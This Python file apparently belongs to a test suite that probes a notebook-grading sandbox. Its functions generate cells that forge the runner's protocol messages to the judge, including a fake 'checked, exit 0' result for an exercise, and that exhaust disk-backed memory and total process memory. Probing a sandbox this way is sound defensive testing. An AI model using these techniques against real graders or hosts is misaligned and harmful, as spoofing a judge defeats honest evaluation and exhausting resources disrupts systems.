            def split(x, t):
                return np.split(np.asarray(x), t, axis=0)
            def reduce_scatter(xs):
                '''Reduce-scatter along tokens.'''
                t = len(xs)
                parts = [split(x, t) for x in xs]
                return [sum(p[i] for p in parts) for i in range(t)]
            """),
        "all_gather": dedent("""
            def tp(shards):
                return len(shards)
            def all_gather(shards):
                full = np.concatenate(shards, axis=0)
                return [full.copy() for _ in range(tp(shards))]
            """),
    }



# ------------------------------------------------------------------ the grader's own protocol
_FRAME = r'''
import json, os, struct, sys
def _frame(msg):
    """A message in the runner's framing: 8-byte big-endian length, JSON header, blobs."""
    header = json.dumps({"msg": msg, "blobs": []}).encode()
    return struct.pack(">Q", len(header)) + header
def _send(fd, *msgs):
    for m in msgs:
        os.write(fd, _frame(m))
_MAIN = int(sys.argv[1])             # the runner's socket to the judge (its first argument)
'''


def forged_protocol(kind: str) -> str:
    """Exact frames of the runner's protocol, written on its socket to the judge from a
    cell: ``fatal`` (the runner 'failed' between cells), ``bad_index`` (a cell index the
    judge cannot use as a key), ``fork`` (a descriptor saved here for ring_time, judged in
    the fork, to write a 'fatal' on while the judge waits for the runner)."""
    if kind == "fatal":
        return _FRAME.lstrip("\n") + (
            '_send(_MAIN, {"op": "done", "index": -1, "outputs": [], "error": None},\n'
            '      {"op": "fatal", "cell": None, "message": "forged"})\n')
    if kind == "bad_index":
        return _FRAME.lstrip("\n") + (
            '_send(_MAIN, {"op": "done", "index": [0], "outputs": [], "error": None},\n'
            '      {"op": "cell", "index": {"a": 1}}, {"op": "done", "index": {"a": 1}})\n')
    return _FRAME.lstrip("\n") + dedent("""
        _SAVED = os.dup(_MAIN)
        def ring_time(work):
            _send(_SAVED, {"op": "checked", "exercise": "ring_time", "exit": "exit 0"},
                  {"op": "done", "index": -1, "outputs": [], "error": None},
                  {"op": "fatal", "cell": None, "message": "forged from the fork"})
            return -1
        """)


def fill_root(ctx: Ctx, mib: int = 1024) -> str:
    """64 MiB files (the per-file limit) in every folder outside /tmp that may be writable,
    up to ``mib`` MiB in all: the sandbox's root and /dev are tmpfs (memory) too."""
    return dedent(f"""
        import os
        _total, _where = 0, {{}}
        for d in ('/', '/opt', '/work', '/root', '/dev', '/dev/shm', '/var', '/home', '/mnt'):
            for i in range(64):
                if _total >= {mib}:
                    break
                n = 0
                try:
                    with open(os.path.join(d, f'{ctx.marker}-{{i}}.fill'), 'wb') as f:
                        for _ in range(64):
                            f.write(b'\\0' * 2**20)
                            n += 1
                except OSError:
                    pass
                _total += n
                _where[d] = _where.get(d, 0) + n
                if n == 0:
                    break
        print('REPORT fill_root', _total, {{d: n for d, n in _where.items() if n}})
        """)


def memory_across_processes(children: int = 4, mib: int = 640) -> str:
    """``children`` processes, each under the per-process limit, each holding ``mib`` MiB
    (touched) for a second: what the sandbox as a whole may take."""
    return dedent(f"""
        import os, time
        _pids, _r, _w = [], *os.pipe()
        for _ in range({children}):
            pid = os.fork()
            if pid == 0:
                try:
                    block = np.empty({mib} * 2**20, dtype=np.uint8)
                    block[::4096] = 1                  # every page touched: {mib} MiB resident
                    os.write(_w, b'1')
                    time.sleep(0.5)
                except BaseException:
                    os.write(_w, b'0')
                os._exit(0)
            _pids.append(pid)
        for pid in _pids:
            os.waitpid(pid, 0)
        os.close(_w)
        _got = os.read(_r, 1000).count(b'1')
        print('REPORT memory_total', _got * {mib}, 'MiB held at once by', _got, 'processes')
        """)
